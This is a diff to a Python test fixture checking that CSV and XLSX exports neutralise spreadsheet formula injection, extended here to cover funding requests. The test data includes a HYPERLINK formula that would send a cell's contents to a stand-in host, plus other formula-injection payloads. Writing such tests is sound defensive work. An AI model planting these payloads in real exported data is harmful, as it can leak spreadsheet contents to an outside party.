@@ -3,6 +3,7 @@ from every CSV and XLSX as the text they are, and numbers stay numbers."""
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 
 import pytest
@@ -11,7 +12,7 @@ from sqlmodel import Session, select
 
 from server.reports.export_cells import csv_row
 from server.program.household_import import template_csv, template_xlsx
-from server.models import Household, OccupationGroup, Survey
+from server.models import FundingRequest, Household, OccupationGroup, Survey
 from server.reports import exports
 from tests.foundation.helpers import sign_in
 from tests.sync.helpers import make_area, op, push_ok
@@ -22,7 +23,7 @@ HOSTILE = ['=HYPERLINK("http://x?"&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\
 
 @pytest.fixture
 def hostile_program(program, engine):
-    """The program's households A–D carry hostile head names; every survey note and group name too."""
+    """The program's households A–D carry hostile head names; every survey note, group name and funding request too."""
     with Session(engine) as db:
         for letter, name in zip("ABCD", HOSTILE):
             household = db.get(Household, program.households[letter])
@@ -34,6 +35,9 @@ def hostile_program(program, engine):
         for n, group in enumerate(db.exec(select(OccupationGroup)).all()):
             group.name, group.note = HOSTILE[n % len(HOSTILE)], HOSTILE[(n + 1) % len(HOSTILE)]
             db.add(group)
+            db.add(FundingRequest(group_id=group.id, source="department", amount_asked=20_000, status="submitted",
+                                  asked_on=dt.date(2027, 1, 10), proposal_file=HOSTILE[n % len(HOSTILE)],
+                                  note=HOSTILE[(n + 2) % len(HOSTILE)]))
         db.commit()
     return program
 
